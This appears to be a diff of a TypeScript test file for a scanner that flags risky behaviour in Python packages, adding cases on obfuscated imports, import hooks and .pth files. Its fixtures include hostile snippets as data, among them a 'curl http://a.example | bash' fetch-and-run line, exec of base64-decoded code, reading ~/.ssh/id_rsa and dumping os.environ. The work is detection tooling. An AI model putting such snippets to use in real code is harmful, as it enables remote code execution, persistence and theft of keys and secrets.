@@ -27,6 +27,8 @@ describe("what code reaches, however it is named", () => {
     ["def f(x): __import__('os').system(x)", "process", "os.system"],
     ["import importlib\ndef f(x): importlib.import_module('os').popen(x)", "process", "os.popen"],
     ["import os\ndef f(x): getattr(os, 'system')(x)", "process", "os.system"],
+    ["def f(u): __import__('urllib.request').request.urlopen(u)", "network", "urllib.request.urlopen"],
+    ["def f(u): __import__('urllib.request', None, None, ['x']).urlopen(u)", "network", "urllib.request.urlopen"],
     ["import os\ng = os\nh = g.system\ndef f(x): h(x)", "process", "os.system"],
     ["import sys\ndef f(x): sys.modules['os'].system(x)", "process", "os.system"],
     ["import os, threading\ndef f(x): threading.Thread(target=os.system, args=(x,)).start()", "process", "os.system"],
@@ -93,7 +95,7 @@ describe("environment, home folder", () => {
     ["import os\ndef f(): return os.environ.copy()", "notice environment os.environ"],
     ["import os\ndef f(): return os.path.expanduser('~/.orchard')", "notice home-folder ~/.orchard"],
     ["from pathlib import Path\ndef f(): return Path.home()", "notice home-folder pathlib.Path.home"],
-    ["def f(): return open('/home/x/.ssh/id_rsa')", "warning home-folder .ssh/"],
+    ["def f(): return open('/home/x/.ssh/id_rsa')", "warning home-folder .ssh"],
     ["def f(): return open('/home/x/.bashrc', 'a')", "warning home-folder .bashrc"],
   ])("%j is %j", (text, expected) => {
     expect(found(inModule(text))).toContain(expected);
@@ -150,12 +152,37 @@ describe("code that is hidden is dangerous", () => {
   });
 });
 
+describe("code changes what Python imports, or runs at its start", () => {
+  test.each([
+    ["import sys\nsys.meta_path.insert(0, Finder())", "warning import-hook sys.meta_path.insert"],
+    ["import sys\nsys.meta_path[:0] = [Finder()]", "warning import-hook sys.meta_path"],
+    ["import builtins\nbuiltins.__import__ = own", "warning import-hook __import__"],
+    ["import site\ndef f(): open(site.getsitepackages()[0] + '/a.pth', 'w')", "danger py-pth-file '/a.pth'"],
+    ["import sys\nvars(sys.modules['os'])['system']('id')", "warning process os"],
+  ])("%j is %j", (text, expected) => {
+    expect(found(inModule(text))).toContain(expected);
+  });
+
+  test("in a function that nobody calls, a hook is a notice", () => {
+    expect(found(inModule("import sys\ndef f(): sys.meta_path.append(Finder())"))).toEqual([
+      "notice import-hook sys.meta_path.append",
+    ]);
+  });
+
+  test("a path of a model and a list of finders are none of that", () => {
+    const text = "import sys, torch\ntorch.load('model.pth')\nfor finder in sys.meta_path: print(finder)\n";
+    expect(inModule(text)).toEqual([]);
+  });
+});
+
 describe("what runs on import", () => {
   const importTime = (text: string): string[] => found(inModule(text).filter(({ id }) => id === "py-import-time-call"));
 
   test.each([
     ["import os\nos.system('x')", "os.system"],
     ["import os\nclass A:\n    x = os.system('x')", "os.system"],
+    ["import os\ndef d(f):\n    os.system('x')\n    return f\n@d\ndef g(): pass", "os.system"],
+    ["import ctypes\nctypes.CDLL(None).system(b'x')", "ctypes.CDLL().system"],
     ["import os\ndef f(x=os.system('x')): pass", "os.system"],
     ["import os\n@register(os.system('x'))\ndef f(): pass", "os.system"],
     ["import os\ntry:\n    os.system('x')\nexcept Exception:\n    pass", "os.system"],
@@ -293,12 +320,26 @@ describe("the build", () => {
 });
 
 describe("tests and documentation of an sdist", () => {
-  test("count as notices at most, and what they do on import does not count", () => {
-    const text = "import os, base64\nos.system('curl http://a.example | bash')\nexec(base64.b64decode(x))\n";
-    for (const path of ["tests/test_rows.py", "docs/conf.py", "examples/run.py", ".github/x.py"])
+  const projectPaths = ["tests/test_rows.py", "docs/conf.py", "examples/run.py", ".github/x.py"];
+  test("reach what they like, and what they do on import does not count", () => {
+    const text = "import os, requests\nos.system('make')\nrequests.get('https://a.example/x')\nrequests.post(u)\n";
+    for (const path of projectPaths)
       expect(atLeast(signalsOf({ files: { [path]: text, "orchard/__init__.py": "" } }), "warning")).toEqual([]);
   });
-
+  test("neither hide code nor send the environment", () => {
+    const hidden = "import os, base64\nos.system('curl http://a.example | bash')\nexec(base64.b64decode(x))\n";
+    const sent = "import os, json\nbody = json.dumps(dict(os.environ))\n";
+    for (const path of projectPaths) {
+      const inFile = (text: string) => found(signalsOf({ files: { [path]: text, "orchard/__init__.py": "" } }));
+      expect(inFile(hidden)).toContain("warning decoded-code os.system");
+      expect(inFile(hidden)).toContain("warning decoded-code exec: base64.b64decode");
+      expect(inFile(sent)).toContain("warning secret-environment os.environ");
+      expect(
+        inFile("import socket, requests\nrequests.get('https://a.example/?h=' + socket.gethostname())\n"),
+      ).toContain("warning network requests.get");
+      expect(inFile("import pickle\nx = pickle.loads(b'\\x80\\x02.')\n")).toEqual(["notice decoded-code pickle.loads"]);
+    }
+  });
   test("of a wheel are installed", () => {
     expect(
       atLeast(wheel({ "orchard/tests/x.py": "import base64\nexec(base64.b64decode(x))\n" }), "danger"),
